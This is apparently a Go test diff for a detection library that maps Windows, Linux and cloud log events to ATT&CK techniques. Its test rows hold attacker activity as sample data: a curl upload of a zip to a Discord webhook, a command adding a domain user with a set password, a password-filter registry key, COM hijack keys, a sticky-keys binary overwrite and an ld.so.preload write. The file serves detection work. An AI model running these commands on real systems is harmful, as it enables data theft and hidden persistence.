@@ -67,6 +67,7 @@ func TestWhatEventsStandFor(t *testing.T) {
 	t.Parallel()
 	const sysmonLog = "Microsoft-Windows-Sysmon/Operational"
 	image, command := alert.EntitySlot(alert.Actor, alert.Process), alert.EntitySlot(alert.Actor, alert.Command)
+	registryTarget, fileTarget := alert.EntitySlot(alert.Target, alert.Registry), alert.EntitySlot(alert.Target, alert.File)
 	for name, row := range map[string]struct {
 		event *trace
 		kind  kind
@@ -82,6 +83,17 @@ func TestWhatEventsStandFor(t *testing.T) {
 		"a file opened from a mail":      {event("1", sysmonLog, alert.Field{Slot: image, Value: `C:\Users\a\Downloads\x.exe`}, alert.Field{Slot: alert.SlotParent, Value: `C:\Windows\explorer.exe`}), start, "T1204.002", "execution", ""},
 		"a failed logon":                 {event("4625", "Security"), failed, "T1110", "credential-access", ""},
 		"trails turned off":              {event("", "cloudtrail.amazonaws.com", alert.Field{Slot: alert.SlotOperation, Value: "StopLogging"}, alert.Field{Slot: alert.SlotRegion, Value: "eu-central-1"}), call, "T1562.008", "defense-evasion", ""},
+		"keys of a storage account":      {event("", "Azure", alert.Field{Slot: alert.SlotOperation, Value: "Microsoft.Storage/storageAccounts/listKeys/action"}, alert.Field{Slot: alert.SlotRegion, Value: "westeurope"}), call, "T1552", "credential-access", ""},
+		"a disk that is given away":      {event("", "Azure", alert.Field{Slot: alert.SlotOperation, Value: "Microsoft.Compute/disks/beginGetAccess/action"}, alert.Field{Slot: alert.SlotRegion, Value: "westeurope"}), call, "T1537", "exfiltration", ""},
+		"a password filter":              {event("13", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: registryTarget, Value: `HKLM\System\CurrentControlSet\Control\Lsa\Notification Packages`}), registry, "T1556.002", "credential-access", ""},
+		"a class of one user":            {event("13", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: registryTarget, Value: `HKU\S-1-5-21-1-2-3-1001_Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\(Default)`}), registry, "T1546.015", "persistence", ""},
+		"a class of all users":           {event("13", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: registryTarget, Value: `HKLM\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\(Default)`}), registry, "", "", "T1546.015"},
+		"sticky keys":                    {event("11", sysmonLog, alert.Field{Slot: image, Value: `C:\Windows\System32\cmd.exe`}, alert.Field{Slot: fileTarget, Value: `C:\Windows\System32\sethc.exe`}), file, "T1546.008", "persistence", ""},
+		"an update of the same":          {event("11", sysmonLog, alert.Field{Slot: image, Value: `C:\Windows\System32\svchost.exe`}, alert.Field{Slot: fileTarget, Value: `C:\Windows\System32\sethc.exe`}), file, "", "", "T1546.008"},
+		"a program that starts with all": {event("11", sysmonLog, alert.Field{Slot: image, Value: "/usr/bin/vim"}, alert.Field{Slot: fileTarget, Value: "/etc/ld.so.preload"}), file, "T1574.006", "persistence", ""},
+		"a message to a chat":            {event("4688", "Security", alert.Field{Slot: image, Value: `C:\t\curl.exe`}, alert.Field{Slot: command, Value: "curl -F file=@a.zip https://discord.com/api/webhooks/1/x"}), start, "T1567.004", "exfiltration", ""},
+		"an account of the domain":       {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\net.exe`}, alert.Field{Slot: command, Value: "net user eve Passw0rd! /add /domain"}), start, "T1136.002", "persistence", ""},
+		"a time on a clock":              {event("4688", "Security", alert.Field{Slot: image, Value: `C:\t\what.exe`}, alert.Field{Slot: command, Value: "what at 10:30"}), start, "", "", "T1053.002"},
 		"a call that ends like it":       {event("", "x", alert.Field{Slot: alert.SlotOperation, Value: "DontStopLogging"}, alert.Field{Slot: alert.SlotRegion, Value: "eu"}), call, "", "", "T1562.008"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -155,5 +167,40 @@ func TestStartWithoutTheKey(t *testing.T) {
 	}
 	if up := p.nodes[acts.actorNode].parent; up < 0 || p.nodes[up].id != "13" {
 		t.Errorf("the parent is %d", up)
+	}
+}
+
+// Every technique that a rule of this package names has a name, and the names are in order, each once.
+func TestTechniquesHaveNames(t *testing.T) {
+	t.Parallel()
+	list, err := meanings()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ids := []string{"T1041", "T1105"} // of enrich.go
+	for _, m := range list {
+		ids = append(ids, m.Technique)
+	}
+	for _, p := range phases() {
+		ids = append(ids, strings.Fields(p[1])...)
+	}
+	names := techniqueNames()
+	for _, id := range ids {
+		if names[id] == "" && id != "T1685" && id != "T1686" { // of ATT&CK 19: they are placed by their ids, and their names were not at hand
+			t.Errorf("%s has no name", id)
+		}
+	}
+	for id := range names {
+		if parent, _, _ := strings.Cut(id, "."); names[parent] == "" {
+			t.Errorf("%s has a name, and %s has none", id, parent)
+		}
+	}
+	last := ""
+	for line := range strings.Lines(techniqueLines) {
+		id, name, ok := strings.Cut(strings.TrimSpace(line), " ")
+		if !ok || name == "" || id <= last {
+			t.Errorf("%q stands behind %s", line, last)
+		}
+		last = id
 	}
 }
